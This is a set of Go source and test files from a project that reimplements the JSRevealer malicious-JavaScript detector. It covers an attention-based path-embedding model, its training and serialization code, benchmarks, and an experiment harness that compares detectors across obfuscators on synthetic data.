// TestConcurrentPredictionsAreConsistent drives the pooled hot path from
// many goroutines: every call must see its own workspace and reproduce the
// single-threaded result exactly.
func TestConcurrentPredictionsAreConsistent(t *testing.T) {
	cfg := smallConfig()
	m, _ := NewModel(cfg)
	m.Train(syntheticSamples(cfg, 40, 15))
	sets := make([][]PathKey, 8)
	want := make([]float64, len(sets))
	for i := range sets {
		sets[i] = syntheticSamples(cfg, 1, int64(20+i))[0].Keys
		want[i] = m.PredictProb(sets[i])
	}
	var wg sync.WaitGroup
	errs := make(chan string, 64)
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for rep := 0; rep < 50; rep++ {
				for i, keys := range sets {
					if got := m.PredictProb(keys); got != want[i] {
						errs <- fmt.Sprintf("set %d: got %v, want %v", i, got, want[i])
						return
					}
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	if msg, ok := <-errs; ok {
		t.Fatal(msg)
	}
}

func TestMalformedModelJSON(t *testing.T) {
	var m Model
	if err := json.Unmarshal([]byte(`{"clsW":[[1]],"clsB":[0]}`), &m); err == nil {
		t.Error("malformed model should fail to unmarshal")
	}
}

func TestWeightDecayShrinksEmbeddings(t *testing.T) {
	cfg := smallConfig()
	cfg.WeightDecay = 0.5 // aggressive, to make the effect visible
	m, _ := NewModel(cfg)
	samples := syntheticSamples(cfg, 40, 11)
	m.Train(samples)
	// With heavy decay, embedding norms of frequently-updated rows stay
	// small.
	norm := 0.0
	for _, v := range m.embed[31] {
		norm += v * v
	}
	if norm > 1.0 {
		t.Errorf("decayed row norm = %v, unexpectedly large", norm)
	}
}
