package nn

import (
	"context"
	"encoding/json"
	"errors"
	"runtime"
	"testing"
)

// trainedBytes fits a fresh model with the given batch size and worker
// count and returns its full serialized parameters.
func trainedBytes(t testing.TB, batch, workers int) []byte {
	t.Helper()
	cfg := smallConfig()
	cfg.BatchSize = batch
	cfg.TrainWorkers = workers
	m, err := NewModel(cfg)
	if err != nil {
		t.Fatal(err)
	}
	m.Train(syntheticSamples(cfg, 80, 11))
	data, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// TestMinibatchBitIdenticalAcrossWorkers is the package-level determinism
// contract: with BatchSize > 1, TrainWorkers never changes a single bit of
// the fitted parameters (which also proves Config.TrainWorkers stays out of
// the serialized form).
func TestMinibatchBitIdenticalAcrossWorkers(t *testing.T) {
	base := trainedBytes(t, 8, 1)
	for _, w := range []int{4, runtime.NumCPU()} {
		if got := trainedBytes(t, 8, w); string(got) != string(base) {
			t.Errorf("TrainWorkers=%d produced different model bytes than serial", w)
		}
	}
}

// TestMinibatchLearnsSeparableTask: the minibatch regime must still learn,
// not just be deterministic.
func TestMinibatchLearnsSeparableTask(t *testing.T) {
	cfg := smallConfig()
	cfg.BatchSize = 8
	cfg.TrainWorkers = 4
	m, err := NewModel(cfg)
	if err != nil {
		t.Fatal(err)
	}
	loss := m.Train(syntheticSamples(cfg, 120, 1))
	if loss > 0.5 {
		t.Errorf("final loss = %v, minibatch model failed to learn", loss)
	}
	test := syntheticSamples(cfg, 60, 2)
	correct := 0
	for _, s := range test {
		if (m.PredictProb(s.Keys) >= 0.5) == s.Malicious {
			correct++
		}
	}
	if acc := float64(correct) / float64(len(test)); acc < 0.9 {
		t.Errorf("test accuracy = %.2f", acc)
	}
}

// TestBatchSizeOneMatchesSGD: BatchSize 1 must route through the legacy
// per-sample path, keeping the golden-pinned numerics byte for byte. The
// serialized config naturally differs (it records the batch size), so only
// the learned parameters are compared.
func TestBatchSizeOneMatchesSGD(t *testing.T) {
	stripConfig := func(data []byte) string {
		var m map[string]json.RawMessage
		if err := json.Unmarshal(data, &m); err != nil {
			t.Fatal(err)
		}
		delete(m, "config")
		out, err := json.Marshal(m)
		if err != nil {
			t.Fatal(err)
		}
		return string(out)
	}
	got := stripConfig(trainedBytes(t, 1, 4))
	want := stripConfig(trainedBytes(t, 0, 1))
	if got != want {
		t.Error("BatchSize=1 parameters differ from BatchSize=0 (per-sample SGD)")
	}
}

// TestTrainCtxCancellation: a cancelled context stops training early and
// reports it.
func TestTrainCtxCancellation(t *testing.T) {
	cfg := smallConfig()
	cfg.BatchSize = 8
	m, err := NewModel(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := m.TrainCtx(ctx, syntheticSamples(cfg, 40, 3)); !errors.Is(err, context.Canceled) {
		t.Fatalf("TrainCtx on cancelled ctx: err = %v, want context.Canceled", err)
	}
}
