package nn

import "testing"

// benchModel trains one small model shared by the package benchmarks.
func benchModel(b *testing.B) (*Model, []PathKey) {
	b.Helper()
	cfg := smallConfig()
	m, err := NewModel(cfg)
	if err != nil {
		b.Fatal(err)
	}
	m.Train(syntheticSamples(cfg, 60, 21))
	// A realistically dense script: a few hundred paths.
	keys := make([]PathKey, 0, 400)
	for len(keys) < 400 {
		keys = append(keys, syntheticSamples(cfg, 1, int64(len(keys)))[0].Keys...)
	}
	return m, keys[:400]
}

// BenchmarkEmbed measures the per-script embedding forward pass, the
// dominant per-file cost of the detect hot path (paper Table VIII's
// "embedding" row).
func BenchmarkEmbed(b *testing.B) {
	m, keys := benchModel(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if embs := m.Embed(keys); len(embs) != len(keys) {
			b.Fatal("short embed")
		}
	}
}

// BenchmarkEmbedBatch embeds 16 scripts' key sets in one call; divided by
// 16 it is directly comparable to BenchmarkEmbed's per-script cost and
// shows what the batch API saves in pool traffic and result allocations.
func BenchmarkEmbedBatch(b *testing.B) {
	m, keys := benchModel(b)
	sets := make([][]PathKey, 16)
	for i := range sets {
		sets[i] = keys[i*25 : i*25+25]
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if out := m.EmbedBatch(sets); len(out) != len(sets) {
			b.Fatal("short batch")
		}
	}
}

// BenchmarkPredictProb measures the forward pass without the Embed copy-out,
// i.e. the steady-state allocation floor of the pooled workspace.
func BenchmarkPredictProb(b *testing.B) {
	m, keys := benchModel(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if p := m.PredictProb(keys); p < 0 || p > 1 {
			b.Fatal("probability out of range")
		}
	}
}

// BenchmarkTrainStep measures one SGD step with the pooled backward
// temporaries.
func BenchmarkTrainStep(b *testing.B) {
	m, keys := benchModel(b)
	s := Sample{Keys: keys[:40], Malicious: true}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m.step(s)
	}
}
