// Package nn implements the path-embedding model of the JSRevealer paper
// (Section III-C): a fully connected layer with tanh activation maps each
// path to a d-dimensional vector, an attention vector produces per-path
// weights, the attention-weighted sum represents the script, and a softmax
// classifier with cross-entropy loss pre-trains the whole stack on labelled
// scripts.
//
// Paths enter the model as one-hot indices over a hashed vocabulary, so the
// fully connected layer is realised as an embedding table: column W[:,i] of
// the paper's weight matrix is row i of the table.
package nn

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"math"
	"math/rand"
	"sync"

	"jsrevealer/internal/ml/linalg"
)

// Config holds the model hyper-parameters.
type Config struct {
	// VocabSize is the number of hash buckets for path contexts.
	VocabSize int
	// Dim is the embedding dimension d (the paper uses 300).
	Dim int
	// Epochs is the number of pre-training passes (the paper uses 100).
	Epochs int
	// LearningRate for SGD.
	LearningRate float64
	// WeightDecay is the L2 regularization strength applied to the embedding
	// rows touched by each step; 0 disables.
	WeightDecay float64
	// MinCount is the vocabulary threshold: a path component must occur at
	// least this many times in the pre-training corpus to get its own
	// embedding row; rarer components share a per-slot UNK row. This makes
	// renaming-style obfuscation behave identically at training and test
	// time (fresh names are UNK either way). 0 means 2.
	MinCount int
	// BatchSize selects the pre-training regime. 0 or 1 is plain per-sample
	// SGD — the original, golden-fixture-pinned path. Values > 1 enable
	// minibatch gradient accumulation: per-sample gradients within a batch
	// are computed against the batch-start parameters and applied in sample
	// order, so the result depends on BatchSize but never on TrainWorkers.
	BatchSize int
	// TrainWorkers bounds the goroutines computing per-sample gradients
	// within a minibatch (BatchSize > 1; per-sample SGD is inherently
	// serial). It is a wall-clock knob only: the fit is bit-identical at any
	// worker count. <= 0 means serial. Excluded from serialization —
	// parallelism is runtime configuration, not model state.
	TrainWorkers int `json:"-"`
	// Seed drives weight initialization and shuffling; training is
	// deterministic for a fixed seed.
	Seed int64
}

// DefaultConfig returns a configuration sized for the synthetic corpus: the
// architecture matches the paper; the dimension is reduced from 300 to keep
// CPU pre-training fast (EXPERIMENTS.md records this substitution).
func DefaultConfig() Config {
	return Config{
		VocabSize:    4096,
		Dim:          64,
		Epochs:       8,
		LearningRate: 0.05,
		WeightDecay:  1e-3,
		Seed:         1,
	}
}

// PathKey addresses one path context in the hashed vocabulary by its three
// components (source value, node-type structure, target value). The path's
// embedding is the sum of the three component embeddings, so paths sharing
// values or structure are close in embedding space.
type PathKey struct {
	Src, Struct, Tgt int
}

// Sample is one labelled training script, already reduced to path keys.
type Sample struct {
	Keys []PathKey
	// Malicious is the ground-truth label.
	Malicious bool
}

// Model is the trained path-embedding network.
type Model struct {
	cfg Config
	// embed[i] is the d-vector for vocabulary bucket i (column i of W).
	embed [][]float64
	// known[i] marks buckets that occurred at least MinCount times in the
	// pre-training corpus. In the paper's one-hot formulation a path
	// component outside the training vocabulary has no dedicated
	// representation; here such components share the per-slot unk row, so
	// fresh names introduced by renaming obfuscation look the same at test
	// time as rare names did during training.
	known []bool
	// unk[slot] is the shared embedding for out-of-vocabulary components in
	// slot 0 (source value), 1 (structure), or 2 (target value).
	unk [3][]float64
	// attn is the attention vector a.
	attn []float64
	// clsW is the 2×d softmax classifier weight; clsB its bias.
	clsW [2][]float64
	clsB [2]float64
	// pool recycles forward/backward workspaces across calls and across
	// goroutines, so concurrent Detect traffic reuses buffers instead of
	// allocating per path. Excluded from serialization; the zero value is
	// ready to use, so deserialized models pool too.
	pool sync.Pool
}

// NewModel initializes a model with small random weights.
func NewModel(cfg Config) (*Model, error) {
	if cfg.VocabSize <= 0 || cfg.Dim <= 0 {
		return nil, errors.New("nn: VocabSize and Dim must be positive")
	}
	rng := rand.New(rand.NewSource(cfg.Seed))
	m := &Model{cfg: cfg}
	scale := 1 / math.Sqrt(float64(cfg.Dim))
	m.embed = make([][]float64, cfg.VocabSize)
	for i := range m.embed {
		row := make([]float64, cfg.Dim)
		for j := range row {
			row[j] = (rng.Float64()*2 - 1) * scale
		}
		m.embed[i] = row
	}
	m.attn = make([]float64, cfg.Dim)
	for j := range m.attn {
		m.attn[j] = (rng.Float64()*2 - 1) * scale
	}
	for s := range m.unk {
		row := make([]float64, cfg.Dim)
		for j := range row {
			row[j] = (rng.Float64()*2 - 1) * scale
		}
		m.unk[s] = row
	}
	for c := 0; c < 2; c++ {
		m.clsW[c] = make([]float64, cfg.Dim)
		for j := range m.clsW[c] {
			m.clsW[c][j] = (rng.Float64()*2 - 1) * scale
		}
	}
	return m, nil
}

// Config returns the model's configuration.
func (m *Model) Config() Config { return m.cfg }

// BucketOf maps a path hash into the model's vocabulary.
func (m *Model) BucketOf(hash uint64) int {
	return int(hash % uint64(m.cfg.VocabSize))
}

// KeyOf maps the three component hashes of a path context into a PathKey.
func (m *Model) KeyOf(src, structure, tgt uint64) PathKey {
	return PathKey{
		Src:    m.BucketOf(src),
		Struct: m.BucketOf(structure),
		Tgt:    m.BucketOf(tgt),
	}
}

// scratch is a reusable forward/backward workspace. The per-path vectors
// live in flat backing arrays sliced per path, so one Detect costs a few
// pooled buffers instead of thousands of per-path allocations. All
// accumulation buffers are zeroed before use, which keeps the arithmetic
// bit-identical to the previous freshly-allocated implementation.
type scratch struct {
	keys []PathKey
	// preFlat/vecFlat back the per-path pre and vecs slices.
	preFlat, vecFlat []float64
	pre              [][]float64 // pre-activation sums w_src + w_struct + w_tgt
	vecs             [][]float64 // tanh outputs p'_i
	scores           []float64   // attention logits
	weights          []float64   // attention α_i
	agg              []float64   // v
	logits           [2]float64
	probs            [2]float64 // softmax output
	// Backward temporaries (step only).
	dv, dattn, dp []float64
	dalpha        []float64
}

// grow sizes the workspace for n paths of dimension dim, reusing backing
// arrays whenever they are already large enough.
func (sc *scratch) grow(n, dim int) {
	if need := n * dim; cap(sc.preFlat) < need {
		sc.preFlat = make([]float64, need)
		sc.vecFlat = make([]float64, need)
	}
	if cap(sc.pre) < n {
		sc.pre = make([][]float64, n)
		sc.vecs = make([][]float64, n)
	}
	if cap(sc.scores) < n {
		sc.scores = make([]float64, n)
		sc.weights = make([]float64, n)
		sc.dalpha = make([]float64, n)
	}
	if cap(sc.agg) < dim {
		sc.agg = make([]float64, dim)
		sc.dv = make([]float64, dim)
		sc.dattn = make([]float64, dim)
		sc.dp = make([]float64, dim)
	}
	sc.pre, sc.vecs = sc.pre[:n], sc.vecs[:n]
	sc.scores, sc.weights, sc.dalpha = sc.scores[:n], sc.weights[:n], sc.dalpha[:n]
	sc.agg = sc.agg[:dim]
	sc.dv, sc.dattn, sc.dp = sc.dv[:dim], sc.dattn[:dim], sc.dp[:dim]
}

// getScratch leases a workspace sized for n paths from the model's pool.
func (m *Model) getScratch(n int) *scratch {
	sc, _ := m.pool.Get().(*scratch)
	if sc == nil {
		sc = &scratch{}
	}
	sc.grow(n, m.cfg.Dim)
	return sc
}

// putScratch returns a workspace to the pool. The caller must not touch sc
// (or anything aliasing its buffers) afterwards: the next Detect on any
// goroutine may reuse it.
func (m *Model) putScratch(sc *scratch) {
	sc.keys = nil
	m.pool.Put(sc)
}

// forward runs the forward pass into sc. Everything the backward pass or
// the caller needs (vecs, weights, agg, probs) stays valid until the
// scratch is returned to the pool.
func (m *Model) forward(keys []PathKey, sc *scratch) {
	sc.keys = keys
	dim := m.cfg.Dim
	linalg.Zero(sc.agg)
	if len(keys) == 0 {
		sc.logits = m.logits(sc.agg)
		linalg.Softmax(sc.logits[:], sc.probs[:])
		return
	}
	for i, key := range keys {
		pre := sc.preFlat[i*dim : (i+1)*dim : (i+1)*dim]
		linalg.Zero(pre)
		for s, idx := range [3]int{key.Src, key.Struct, key.Tgt} {
			linalg.AddInPlace(pre, m.rowFor(s, idx))
		}
		v := sc.vecFlat[i*dim : (i+1)*dim : (i+1)*dim]
		for j := range v {
			v[j] = math.Tanh(pre[j])
		}
		sc.pre[i] = pre
		sc.vecs[i] = v
		sc.scores[i] = linalg.Dot(v, m.attn)
	}
	linalg.Softmax(sc.scores, sc.weights)
	for i, v := range sc.vecs {
		linalg.AXPYInPlace(sc.agg, sc.weights[i], v)
	}
	sc.logits = m.logits(sc.agg)
	linalg.Softmax(sc.logits[:], sc.probs[:])
}

func (m *Model) logits(v []float64) [2]float64 {
	return [2]float64{
		linalg.Dot(m.clsW[0], v) + m.clsB[0],
		linalg.Dot(m.clsW[1], v) + m.clsB[1],
	}
}

// rowFor resolves the embedding row for a component: the bucket's own row
// when in-vocabulary, else the slot's shared UNK row.
func (m *Model) rowFor(slot, idx int) []float64 {
	if m.known == nil || m.known[idx] {
		return m.embed[idx]
	}
	return m.unk[slot]
}

// Train runs SGD over the samples for the configured number of epochs and
// returns the mean cross-entropy loss of the final epoch. The samples also
// define the model's vocabulary: components occurring fewer than MinCount
// times share a per-slot UNK embedding, during training and at inference.
// It is TrainCtx without cancellation.
func (m *Model) Train(samples []Sample) float64 {
	loss, _ := m.TrainCtx(context.Background(), samples)
	return loss
}

// TrainCtx is Train with cooperative cancellation: the epoch and minibatch
// loops check ctx and return early with ctx.Err() once it is done, leaving
// the model in the partially-trained state of the last completed step (the
// caller decides whether to checkpoint or discard it). For a fixed seed the
// fit is deterministic; with BatchSize > 1 it is additionally bit-identical
// at any TrainWorkers count, because per-sample gradients are computed
// against frozen batch-start parameters and applied in sample order.
func (m *Model) TrainCtx(ctx context.Context, samples []Sample) (float64, error) {
	minCount := m.cfg.MinCount
	if minCount <= 0 {
		minCount = 2
	}
	counts := make([]int, m.cfg.VocabSize)
	for _, s := range samples {
		for _, k := range s.Keys {
			counts[k.Src]++
			counts[k.Struct]++
			counts[k.Tgt]++
		}
	}
	m.known = make([]bool, m.cfg.VocabSize)
	for i, c := range counts {
		m.known[i] = c >= minCount
	}
	rng := rand.New(rand.NewSource(m.cfg.Seed + 7))
	order := make([]int, len(samples))
	for i := range order {
		order[i] = i
	}
	lastLoss := 0.0
	for epoch := 0; epoch < m.cfg.Epochs; epoch++ {
		if err := ctx.Err(); err != nil {
			return lastLoss, err
		}
		rng.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
		var total float64
		var err error
		if m.cfg.BatchSize > 1 {
			total, err = m.epochMinibatch(ctx, samples, order)
		} else {
			total, err = m.epochSGD(ctx, samples, order)
		}
		if err != nil {
			return lastLoss, err
		}
		if len(samples) > 0 {
			lastLoss = total / float64(len(samples))
		}
	}
	return lastLoss, nil
}

// epochSGD is one pass of the original per-sample SGD (the golden-pinned
// path), with a cancellation check between samples.
func (m *Model) epochSGD(ctx context.Context, samples []Sample, order []int) (float64, error) {
	total := 0.0
	for _, idx := range order {
		if err := ctx.Err(); err != nil {
			return total, err
		}
		total += m.step(samples[idx])
	}
	return total, nil
}

// step performs one SGD update and returns the sample's loss.
func (m *Model) step(s Sample) float64 {
	sc := m.getScratch(len(s.Keys))
	defer m.putScratch(sc)
	m.forward(s.Keys, sc)
	label := 0
	if s.Malicious {
		label = 1
	}
	loss := -math.Log(math.Max(sc.probs[label], 1e-12))
	if len(s.Keys) == 0 {
		return loss
	}

	lr := m.cfg.LearningRate
	// dlogits = probs - onehot(label)
	var dlogits [2]float64
	dlogits[0] = sc.probs[0]
	dlogits[1] = sc.probs[1]
	dlogits[label] -= 1

	// Classifier gradients and dv.
	dv := sc.dv
	linalg.Zero(dv)
	for c := 0; c < 2; c++ {
		linalg.AXPYInPlace(dv, dlogits[c], m.clsW[c])
		linalg.AXPYInPlace(m.clsW[c], -lr*dlogits[c], sc.agg)
		m.clsB[c] -= lr * dlogits[c]
	}

	// Attention backward.
	dalpha := sc.dalpha
	for i, v := range sc.vecs {
		dalpha[i] = linalg.Dot(dv, v)
	}
	// softmax jacobian: ds_i = α_i (dα_i - Σ_j α_j dα_j)
	meanD := 0.0
	for i := range dalpha {
		meanD += sc.weights[i] * dalpha[i]
	}
	dattn := sc.dattn
	linalg.Zero(dattn)
	for i, v := range sc.vecs {
		ds := sc.weights[i] * (dalpha[i] - meanD)
		// dp_i = α_i dv + ds_i * a
		dp := sc.dp
		linalg.Zero(dp)
		linalg.AXPYInPlace(dp, sc.weights[i], dv)
		linalg.AXPYInPlace(dp, ds, m.attn)
		linalg.AXPYInPlace(dattn, ds, v)
		// Through tanh into the three component embedding rows (the path's
		// pre-activation is their sum, so each receives the same gradient).
		key := sc.keys[i]
		for s, rowIdx := range [3]int{key.Src, key.Struct, key.Tgt} {
			row := m.rowFor(s, rowIdx)
			for j := range row {
				g := dp[j]*(1-v[j]*v[j]) + m.cfg.WeightDecay*row[j]
				row[j] -= lr * g
			}
		}
	}
	linalg.AXPYInPlace(m.attn, -lr, dattn)
	return loss
}

// Embedding is the per-path output of a trained model: the embedded vector
// and its attention weight within the script.
type Embedding struct {
	Vector []float64
	Weight float64
}

// Embed maps a script's path keys to per-path embeddings and weights. The
// returned slice is parallel to keys. Vectors are copied out of the pooled
// forward workspace into one flat caller-owned backing array, so the result
// stays valid (and embeddings stay independent of each other) across
// subsequent Embed/Detect calls on any goroutine.
func (m *Model) Embed(keys []PathKey) []Embedding {
	sc := m.getScratch(len(keys))
	defer m.putScratch(sc)
	m.forward(keys, sc)
	out := make([]Embedding, len(keys))
	dim := m.cfg.Dim
	flat := make([]float64, len(keys)*dim)
	for i := range keys {
		v := flat[i*dim : (i+1)*dim : (i+1)*dim]
		copy(v, sc.vecs[i])
		out[i] = Embedding{Vector: v, Weight: sc.weights[i]}
	}
	return out
}

// EmbedBatch embeds the path keys of many scripts in one pass: a single
// pooled workspace sized for the whole batch, one flat loop over every path
// (the gemm-shaped hot loop the per-script API fragments into per-call
// setup), and per-script attention softmaxes over contiguous score
// segments. Output slot i is bit-identical to Embed(keySets[i]) — the
// per-path and per-script arithmetic runs in exactly the order forward
// uses, pinned by TestEmbedBatchGolden — while the batch amortizes pool
// leases and allocates the results in two flat arrays instead of per
// script.
func (m *Model) EmbedBatch(keySets [][]PathKey) [][]Embedding {
	total := 0
	for _, keys := range keySets {
		total += len(keys)
	}
	sc := m.getScratch(total)
	defer m.putScratch(sc)
	dim := m.cfg.Dim

	// Phase 1: every path of every script through the embedding sum, tanh,
	// and attention logit — one contiguous loop over the flat workspace.
	off := 0
	for _, keys := range keySets {
		for _, key := range keys {
			pre := sc.preFlat[off*dim : (off+1)*dim : (off+1)*dim]
			linalg.Zero(pre)
			for s, idx := range [3]int{key.Src, key.Struct, key.Tgt} {
				linalg.AddInPlace(pre, m.rowFor(s, idx))
			}
			v := sc.vecFlat[off*dim : (off+1)*dim : (off+1)*dim]
			for j := range v {
				v[j] = math.Tanh(pre[j])
			}
			sc.vecs[off] = v
			sc.scores[off] = linalg.Dot(v, m.attn)
			off++
		}
	}

	// Phase 2: per-script attention softmax over each score segment, then
	// copy vectors out of the pooled workspace into caller-owned flat
	// backing (one allocation for all vectors, one for all Embeddings).
	out := make([][]Embedding, len(keySets))
	flat := make([]float64, total*dim)
	embFlat := make([]Embedding, total)
	off = 0
	for si, keys := range keySets {
		n := len(keys)
		embs := embFlat[off : off+n : off+n]
		if n > 0 {
			linalg.Softmax(sc.scores[off:off+n], sc.weights[off:off+n])
		}
		for i := 0; i < n; i++ {
			v := flat[(off+i)*dim : (off+i+1)*dim : (off+i+1)*dim]
			copy(v, sc.vecs[off+i])
			embs[i] = Embedding{Vector: v, Weight: sc.weights[off+i]}
		}
		out[si] = embs
		off += n
	}
	return out
}

// PredictProb returns the model's own malicious probability for a script,
// used for diagnostics (the full pipeline classifies with the random forest).
func (m *Model) PredictProb(keys []PathKey) float64 {
	sc := m.getScratch(len(keys))
	defer m.putScratch(sc)
	m.forward(keys, sc)
	return sc.probs[1]
}

// modelJSON is the serialization envelope.
type modelJSON struct {
	Config Config      `json:"config"`
	Embed  [][]float64 `json:"embed"`
	Known  []bool      `json:"known"`
	Unk    [][]float64 `json:"unk"`
	Attn   []float64   `json:"attn"`
	ClsW   [][]float64 `json:"clsW"`
	ClsB   []float64   `json:"clsB"`
}

// MarshalJSON serializes the model.
func (m *Model) MarshalJSON() ([]byte, error) {
	return json.Marshal(modelJSON{
		Config: m.cfg,
		Embed:  m.embed,
		Known:  m.known,
		Unk:    [][]float64{m.unk[0], m.unk[1], m.unk[2]},
		Attn:   m.attn,
		ClsW:   [][]float64{m.clsW[0], m.clsW[1]},
		ClsB:   []float64{m.clsB[0], m.clsB[1]},
	})
}

// UnmarshalJSON deserializes the model.
func (m *Model) UnmarshalJSON(data []byte) error {
	var mj modelJSON
	if err := json.Unmarshal(data, &mj); err != nil {
		return err
	}
	if len(mj.ClsW) != 2 || len(mj.ClsB) != 2 {
		return fmt.Errorf("nn: malformed model: %d classifier rows", len(mj.ClsW))
	}
	m.cfg = mj.Config
	m.embed = mj.Embed
	m.known = mj.Known
	if len(mj.Unk) == 3 {
		m.unk[0], m.unk[1], m.unk[2] = mj.Unk[0], mj.Unk[1], mj.Unk[2]
	}
	m.attn = mj.Attn
	m.clsW[0], m.clsW[1] = mj.ClsW[0], mj.ClsW[1]
	m.clsB[0], m.clsB[1] = mj.ClsB[0], mj.ClsB[1]
	return nil
}
