package experiments

import (
	"strings"
	"testing"

	"jsrevealer/internal/ml/metrics"
)

// tinyConfig keeps experiment smoke tests fast.
func tinyConfig() Config {
	return Config{TrainPerClass: 45, TestPerClass: 15, Repetitions: 1, Seed: 42}
}

func TestMakeSplitBalanced(t *testing.T) {
	sp := makeSplit(tinyConfig(), 0)
	if len(sp.train) != 90 {
		t.Fatalf("train size = %d, want 90", len(sp.train))
	}
	if len(sp.test) != 30 {
		t.Fatalf("test size = %d, want 30", len(sp.test))
	}
	trainMal := 0
	for _, s := range sp.train {
		if s.Malicious {
			trainMal++
		}
	}
	if trainMal != 45 {
		t.Errorf("train malicious = %d, want 45", trainMal)
	}
	testMal := 0
	for _, s := range sp.test {
		if s.Malicious {
			testMal++
		}
	}
	if testMal != 15 {
		t.Errorf("test malicious = %d, want 15", testMal)
	}
}

func TestMakeSplitDeterministic(t *testing.T) {
	a := makeSplit(tinyConfig(), 0)
	b := makeSplit(tinyConfig(), 0)
	for i := range a.train {
		if a.train[i].Source != b.train[i].Source {
			t.Fatal("split not deterministic")
		}
	}
	c := makeSplit(tinyConfig(), 1)
	if a.train[0].Source == c.train[0].Source && a.train[1].Source == c.train[1].Source {
		t.Error("different repetitions should resample")
	}
}

func TestConditionsAndOrder(t *testing.T) {
	conds := Conditions()
	if len(conds) != 5 || conds[0] != "Baseline" {
		t.Errorf("conditions = %v", conds)
	}
	if len(DetectorOrder()) != 5 || DetectorOrder()[4] != "JSRevealer" {
		t.Errorf("detector order = %v", DetectorOrder())
	}
}

func TestObfuscatorFor(t *testing.T) {
	if obfuscatorFor("Baseline", 0, 1) != nil || obfuscatorFor("", 0, 1) != nil {
		t.Error("baseline condition should have no obfuscator")
	}
	if obfuscatorFor("Jfogs", 0, 1) == nil {
		t.Error("named obfuscator missing")
	}
}

func TestTable1(t *testing.T) {
	res := Table1(tinyConfig())
	if len(res.Rows) != 12 {
		t.Fatalf("rows = %d, want 12", len(res.Rows))
	}
	// Malicious families first, as in the paper's table.
	if res.Rows[0].Class != "Malicious" {
		t.Error("malicious families should come first")
	}
	total := 0
	for _, r := range res.Rows {
		total += r.Count
	}
	if total != 120 {
		t.Errorf("total = %d, want 120", total)
	}
	if !strings.Contains(res.Render(), "Table I") {
		t.Error("render missing title")
	}
}

func TestRenderGridAlignment(t *testing.T) {
	out := renderGrid([]string{"A", "LongHeader"}, [][]string{{"xx", "y"}})
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 3 {
		t.Fatalf("grid lines = %d", len(lines))
	}
	if !strings.HasPrefix(lines[1], "--") {
		t.Error("missing separator row")
	}
}

func TestElbowOf(t *testing.T) {
	// A sharp knee at index 2 (K = kMin+2).
	sse := []float64{100, 60, 30, 28, 27, 26}
	if got := elbowOf(sse, 2); got != 4 {
		t.Errorf("elbowOf = %d, want 4", got)
	}
	if got := elbowOf([]float64{5, 4}, 2); got != 2 {
		t.Errorf("short curve elbow = %d, want kMin", got)
	}
}

func TestComparisonResultDerivations(t *testing.T) {
	res := ComparisonResult{Reports: map[string]map[string]metrics.Report{
		"JSRevealer": {
			"Baseline":              {Accuracy: 99, F1: 99},
			"JavaScript-Obfuscator": {Accuracy: 80, F1: 82, FPR: 20, FNR: 10},
			"Jfogs":                 {Accuracy: 90, F1: 90},
			"JSObfu":                {Accuracy: 70, F1: 72},
			"Jshaman":               {Accuracy: 92, F1: 93},
		},
	}}
	avg := res.AverageOverObfuscators()["JSRevealer"]
	if avg.Accuracy != 83 {
		t.Errorf("avg accuracy = %v, want 83", avg.Accuracy)
	}
	for _, render := range []string{
		res.RenderTable5(), res.RenderTable6(), res.RenderFigure6(), res.RenderFigure7(),
	} {
		if !strings.Contains(render, "JSRevealer") {
			t.Error("render missing detector row")
		}
	}
}

func TestTable3BestSelection(t *testing.T) {
	res := Table3Result{
		KBenign:    []int{5, 7},
		KMalicious: []int{4, 6},
		F1:         [][]float64{{70, 75}, {80, 72}},
	}
	kb, km, f1 := res.Best()
	if kb != 7 || km != 4 || f1 != 80 {
		t.Errorf("Best = %d/%d/%v", kb, km, f1)
	}
	if !strings.Contains(res.Render(), "best: K benign=7") {
		t.Error("render missing best line")
	}
}

// TestEndToEndQuickExperiments exercises the full harness once at tiny scale.
func TestEndToEndQuickExperiments(t *testing.T) {
	if testing.Short() {
		t.Skip("full pipeline in -short mode")
	}
	cfg := tinyConfig()
	res, err := Comparison(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, det := range DetectorOrder() {
		conds, ok := res.Reports[det]
		if !ok {
			t.Fatalf("missing detector %s", det)
		}
		base := conds["Baseline"]
		if base.Accuracy < 60 {
			t.Errorf("%s baseline accuracy = %.1f, implausibly low", det, base.Accuracy)
		}
	}
	fig5, err := Figure5(cfg, 2, 5)
	if err != nil {
		t.Fatal(err)
	}
	if len(fig5.BenignSSE) != 4 || len(fig5.MaliciousSSE) != 4 {
		t.Errorf("figure 5 curve lengths: %d/%d", len(fig5.BenignSSE), len(fig5.MaliciousSSE))
	}
	if fig5.BenignElbow < 2 || fig5.BenignElbow > 5 {
		t.Errorf("benign elbow = %d out of range", fig5.BenignElbow)
	}
	t7, err := Table7(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(t7.Features) != 5 {
		t.Errorf("table 7 features = %d", len(t7.Features))
	}
	t8, err := Table8(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(t8.Rows) != 8 {
		t.Errorf("table 8 rows = %d, want 8", len(t8.Rows))
	}
	if t8.PerFileDetect <= 0 {
		t.Error("per-file detection time not measured")
	}
}
