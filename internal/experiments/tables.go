package experiments

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"jsrevealer/internal/core"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/ml/classify"
	"jsrevealer/internal/ml/metrics"
)

// ---------------------------------------------------------------------------
// Table I — dataset composition
// ---------------------------------------------------------------------------

// Table1Result describes the corpus composition (the synthetic analogue of
// the paper's dataset-source table).
type Table1Result struct {
	Rows []Table1Row
}

// Table1Row is one corpus family.
type Table1Row struct {
	Class  string
	Source string
	Count  int
}

// Table1 generates a corpus at the configured size and tallies families.
